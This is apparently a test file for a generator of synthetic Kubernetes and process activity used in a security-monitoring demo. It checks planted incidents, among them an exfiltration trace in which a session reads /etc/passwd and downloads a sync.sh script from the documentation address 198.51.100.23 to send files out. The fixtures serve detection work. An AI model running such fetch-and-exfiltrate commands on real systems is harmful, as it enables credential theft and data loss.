import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { liveScenario, scenario } from '../../stories/demo/scenario.js';
import {
  byTime,
  toJson,
  type WireActivity,
  type WireCommand,
  type WireConnection,
  type WireKubernetes,
} from '../../stories/demo/wire.js';

const minuteMs = 60_000;
const hourMs = 60 * minuteMs;
const endMs = Date.UTC(2026, 2, 4, 19, 20, 17) + 123;
const day = scenario({ seed: 7, endMs });

const ns = (ms: number): bigint => BigInt(ms) * 1_000_000n;
const commands = day.filter((activity): activity is WireCommand => activity.type === 'command');
const connections = day.filter((activity): activity is WireConnection => activity.type === 'connection');
const execs = day.filter((activity): activity is WireKubernetes => activity.type === 'kubernetes');

function only<Item>(items: readonly Item[]): Item {
  const [item] = items;
  assert.equal(items.length, 1);
  assert.ok(item !== undefined);
  return item;
}

/** What the process tree under the session's root shell did. */
function sessionOf(exec: WireKubernetes): readonly WireCommand[] {
  const { completed = 0n } = exec.stages;
  return commands.filter(
    ({ containerId, timestamp, loginShellId }) =>
      containerId === exec.containerId && timestamp > exec.timestamp && timestamp <= completed && loginShellId !== 0,
  );
}

describe('the scenario', () => {
  it('is the same for the same seed and end, to the last digit, and another one for another seed', () => {
    assert.deepEqual(
      scenario({ seed: 7, endMs }).map(({ id }) => id),
      day.map(({ id }) => id),
    );
    const halfAnHour = toJson(scenario({ seed: 7, endMs, hours: 0.5 }));
    assert.equal(halfAnHour, toJson(scenario({ seed: 7, endMs, hours: 0.5 })));
    assert.notEqual(halfAnHour, toJson(scenario({ seed: 8, endMs, hours: 0.5 })));
  });

  it('is a day of 50,000 to 70,000 activities in the order of time, each with an id of its own that begins with its time', () => {
    assert.ok(day.length >= 50_000 && day.length <= 70_000, String(day.length));
    assert.equal(new Set(day.map(({ id }) => id)).size, day.length);
    for (const [index, activity] of day.entries()) {
      const before = day[index - 1];
      if (before) assert.ok(byTime(before, activity) < 0);
      assert.ok(activity.timestamp >= ns(endMs - 24 * hourMs) && activity.timestamp < ns(endMs));
      assert.match(activity.id, /^[0-9a-f]{32}$/);
      assert.equal(BigInt(`0x${activity.id.slice(0, 16)}`), activity.timestamp);
    }
  });

  it('has a night: the quietest hours have less than two thirds of the busiest', () => {
    const connectionsIn = (hour: number): number =>
      connections.filter(
        ({ timestamp, comm }) => comm !== 'ab' && new Date(Number(timestamp / 1_000_000n)).getUTCHours() === hour,
      ).length;
    const night = connectionsIn(1) + connectionsIn(2) + connectionsIn(3);
    const noon = connectionsIn(13) + connectionsIn(14) + connectionsIn(15);
    assert.ok(night > 0 && night < (noon * 2) / 3, `${night} at night, ${noon} at noon`);
  });

  it('uses only private addresses and those set aside for documentation, some of them IPv6', () => {
    const allowed = /^(?:10\.|127\.0\.0\.1$|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|2001:db8:|fd00:)/;
    const addresses = [
      ...connections.flatMap(({ clientIp, serverIp }) => [clientIp, serverIp]),
      ...execs.flatMap(({ sourceAddresses }) => sourceAddresses),
    ];
    for (const address of new Set(addresses)) assert.match(address, allowed);
    assert.ok(connections.filter(({ clientIp }) => clientIp.includes(':')).length > 100);
  });

  it('has four nodes, six namespaces and at least fifteen workloads, with pods whose names tell their owner', () => {
    const distinct = (label: string): Set<string> => new Set(day.flatMap(({ labels }) => labels[label] ?? []));
    assert.equal(distinct('kubernetes.node.name').size, 4);
    assert.equal(distinct('kubernetes.namespace.name').size, 6);
    assert.ok(distinct('kubernetes.workload.name').size >= 15);
    for (const { labels } of day) {
      const pod = labels['kubernetes.pod.name'];
      if (pod !== undefined) assert.ok(pod.startsWith(`${labels['kubernetes.workload.name']}-`), pod);
    }
  });
});

describe('the processes of the scenario', () => {
  const processes = new Map(commands.map((command) => [`${command.hostname}/${command.pid}`, command]));

  it('have a pid of their own on their node', () => {
    assert.equal(processes.size, commands.length);
  });

  it('have parents that were there before them, and the login shell that follows from their ancestors', () => {
    let children = 0;
    for (const command of commands) {
      const parent = processes.get(`${command.hostname}/${command.ppid}`);
      const own = command.comm.endsWith('sh') ? command.pid : 0;
      if (!parent) {
        assert.ok(
          command.ppid < 100_000 || command.pcomm === 'containerd-shim',
          'a parent that nobody saw start is older than the recording',
        );
        assert.equal(command.loginShellId, own);
        assert.equal(command.loginShellDistance, 0);
        continue;
      }
      children++;
      assert.ok(parent.timestamp < command.timestamp);
      assert.equal(command.pcomm, parent.comm);
      assert.equal(command.containerId, parent.containerId);
      assert.equal(command.loginShellId, parent.loginShellId || own);
      assert.equal(command.loginShellDistance, parent.loginShellId ? parent.loginShellDistance + 1 : 0);
      assert.equal(command.userLoginName, parent.userLoginName);
      if (parent.tty !== 0) assert.equal(command.tty, parent.tty);
    }
    assert.ok(children > 1_000);
  });

  it('are the ones that connect and open files, or entry points from before the recording', () => {
    let ahead = 0;
    for (const activity of day) {
      if (activity.type !== 'connection' && activity.type !== 'fileaccess') continue;
      const process = processes.get(`${activity.hostname}/${activity.pid}`);
      if (!process) {
        assert.ok(activity.pid < 100_000);
        continue;
      }
      assert.equal(activity.containerId, process.containerId);
      assert.equal(activity.tty, process.tty);
      if (activity.timestamp >= process.timestamp) assert.equal(activity.comm, process.comm);
      else {
        ahead++;
        assert.ok(process.timestamp - activity.timestamp < 1_000_000_000n);
        assert.equal(activity.comm, process.pcomm, 'a fork has the name of its parent until it executes something');
      }
    }
    assert.ok(ahead > 0, 'a redirection opens its file before its program starts');
  });
});

describe('the story of the noise', () => {
  const foo = commands.filter(({ comm }) => comm === 'Foo');

  it('is Foo, five times a second, for the last ninety minutes, in one container', () => {
    assert.equal(foo.length, 27_000);
    assert.equal(new Set(foo.map(({ containerId }) => containerId)).size, 1);
    assert.ok((foo[0]?.timestamp ?? 0n) >= ns(endMs - 90 * minuteMs));
    assert.ok((foo.at(-1)?.timestamp ?? 0n) > ns(endMs - 1_000));
  });

  it('hides somebody with the token of a robot who fetches, installs and shreds', () => {
    const exec = only(execs.filter(({ user }) => user.username.startsWith('system:serviceaccount:')));
    assert.equal(exec.containerId, foo[0]?.containerId);
    const names = sessionOf(exec).map(({ comm }) => comm);
    for (const name of ['curl', 'dpkg', 'shred']) assert.ok(names.includes(name), name);
    assert.ok(!names.includes('Foo'));
  });
});

describe('the story of the incident', () => {
  const ab = only(commands.filter(({ comm, cmdline }) => comm === 'ab' && cmdline.includes('-n 6000')));
  const spike = connections.filter(
    ({ pid, hostname, l4protocol }) => pid === ab.pid && hostname === ab.hostname && l4protocol === 'tcp',
  );

  it('is a spike of 6,000 connections from one pod within about a minute, three hours before the end', () => {
    assert.equal(spike.length, 6_000);
    const [first, last] = [spike[0]?.timestamp ?? 0n, spike.at(-1)?.timestamp ?? 0n];
    assert.ok(last - first < 75_000_000_000n);
    assert.ok(first > ns(endMs - 3 * hourMs - minuteMs) && first < ns(endMs - 3 * hourMs + minuteMs));
    assert.equal(new Set(spike.map(({ labels }) => labels['kubernetes.pod.name'])).size, 1);
  });

  it('leads to johndoe, who installed the tool in a kubectl exec and ran it', () => {
    const exec = only(
      execs.filter(
        ({ user, args, containerId }) =>
          user.username === 'johndoe' && args.command === 'bash' && containerId === ab.containerId,
      ),
    );
    assert.deepEqual(exec.sourceAddresses, ['10.20.14.52']);
    assert.match(exec.userAgent, /^kubectl\//);
    const session = sessionOf(exec);
    const [root] = session;
    assert.equal(root?.comm, 'bash');
    assert.equal(root?.loginShellId, root?.pid);
    assert.equal(root?.pcomm, 'containerd-shim');
    assert.ok((root?.timestamp ?? 0n) - exec.timestamp < 100_000_000n);
    const lines = session.map(({ cmdline }) => cmdline);
    assert.ok(lines.indexOf('apt-get install -y apache2-utils') > 0);
    assert.ok(lines.indexOf(ab.cmdline) > lines.indexOf('apt-get install -y apache2-utils'));
  });
});

describe('the story of the trace', () => {
  it('begins with data that leave a pod: a copy of passwd, then a script that sends files outside', () => {
    const exec = only(execs.filter(({ user }) => user.username === 'dave'));
    const lines = sessionOf(exec).map(({ cmdline }) => cmdline);
    assert.ok(lines.includes('cat /etc/passwd'));
    assert.ok(lines.includes('curl -fsSL -o /tmp/.cache/sync.sh http://198.51.100.23/sync.sh'));
    const outside = connections.filter(
      ({ containerId, serverIp }) =>
        containerId === exec.containerId && (serverIp === '198.51.100.23' || serverIp.startsWith('2001:db8:51:')),
    );
    assert.ok(outside.length >= 120);
    const copy = only(
      day.filter(
        (activity) =>
          activity.type === 'fileaccess' &&
          activity.directory + activity.filename === '/tmp/passwd' &&
          activity.permissions === 'w',
      ),
    );
    const cat = only(
      commands.filter(({ cmdline, containerId }) => cmdline === 'cat /etc/passwd' && containerId === exec.containerId),
    );
    assert.ok(
      copy.type === 'fileaccess' && copy.comm === 'sh' && copy.pid === cat.pid && copy.timestamp < cat.timestamp,
    );
  });

  it('goes on with two people in that container at once, whose shells nothing tells apart', () => {
    const pair = execs
      .filter(({ user }) => user.username === 'bob' || user.username === 'carol')
      .filter(({ args }) => args.command === 'bash');
    const [first, second] = pair;
    assert.equal(pair.length, 2);
    assert.ok(first && second && first.containerId === second.containerId);
    assert.notEqual(first.user.username, second.user.username);
    assert.ok(second.timestamp - first.timestamp < 100_000_000n);
    assert.ok((first.stages.completed ?? 0n) > second.timestamp);
    const roots = new Set(sessionOf(first).map(({ loginShellId }) => loginShellId));
    assert.equal(roots.size, 2);
    const lastNs = sessionOf(first).at(-1)?.timestamp ?? 0n;
    assert.ok(lastNs < (first.stages.completed ?? 0n), 'neither shell outlives the other one’s session');
    assert.equal(sessionOf(second).filter(({ timestamp }) => timestamp > (first.stages.completed ?? 0n)).length, 0);
  });
});

describe('the people of the scenario', () => {
  it('have at least six sessions, with addresses, agents and groups', () => {
    const accepted = execs.filter(({ statusCode }) => statusCode === 101);
    assert.ok(accepted.length >= 6);
    assert.ok(new Set(accepted.map(({ user }) => user.username)).size >= 5);
    for (const { sourceAddresses, userAgent, user, stages, auditId } of accepted) {
      assert.equal(sourceAddresses.length, 1);
      assert.notEqual(userAgent, '');
      assert.ok(user.groups.includes('system:authenticated'));
      assert.ok((stages.started ?? 0n) < (stages.completed ?? 0n));
      assert.match(auditId, /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-a[0-9a-f]{3}-[0-9a-f]{12}$/);
    }
  });

  it('include one who was denied, after whose request nothing started', () => {
    const denied = only(execs.filter(({ statusCode }) => statusCode === 403));
    assert.equal(denied.decision, 'forbid');
    assert.equal(denied.stages.started, undefined);
    const after = commands.filter(
      ({ containerId, timestamp, comm }) =>
        containerId === denied.containerId &&
        timestamp > denied.timestamp &&
        timestamp < denied.timestamp + 5_000_000_000n &&
        comm === 'sh',
    );
    assert.deepEqual(after, []);
  });
});

describe('what comes after the scenario', () => {
  const take = (seed: number, fromMs: number, untilMs: number): readonly WireActivity[] => {
    const taken: WireActivity[] = [];
    for (const activity of liveScenario(seed, fromMs)) {
      if (activity.timestamp >= ns(untilMs)) break;
      taken.push(activity);
    }
    return taken;
  };
  const live = take(7, endMs, endMs + 10 * minuteMs);

  it('follows without a seam, in order, in the same cluster', () => {
    assert.ok(live.length > 3_000);
    assert.ok((live[0]?.timestamp ?? 0n) >= ns(endMs));
    for (const [index, activity] of live.entries()) {
      const before = live[index - 1];
      if (before) assert.ok(byTime(before, activity) < 0);
    }
    const ids = new Set(day.map(({ id }) => id));
    assert.ok(live.every(({ id }) => !ids.has(id)));
    const containers = new Set(day.map(({ containerId }) => containerId));
    const foo = live.find((activity) => activity.type === 'command' && activity.comm === 'Foo');
    assert.ok(foo && containers.has(foo.containerId));
  });

  it('is, but for the stories, what a later recording has at that time', () => {
    const isEveryday = (activity: WireActivity): boolean =>
      activity.type === 'command' && activity.comm === 'pg_isready';
    const later = scenario({ seed: 7, endMs: endMs + 10 * minuteMs, hours: 1 }).filter(
      ({ timestamp }) => timestamp >= ns(endMs),
    );
    assert.ok(later.filter(isEveryday).length >= 20);
    assert.equal(toJson(live.filter(isEveryday)), toJson(later.filter(isEveryday)));
  });

  it('has somebody looking in now and then', () => {
    assert.ok(live.some(({ type }) => type === 'kubernetes'));
  });
});
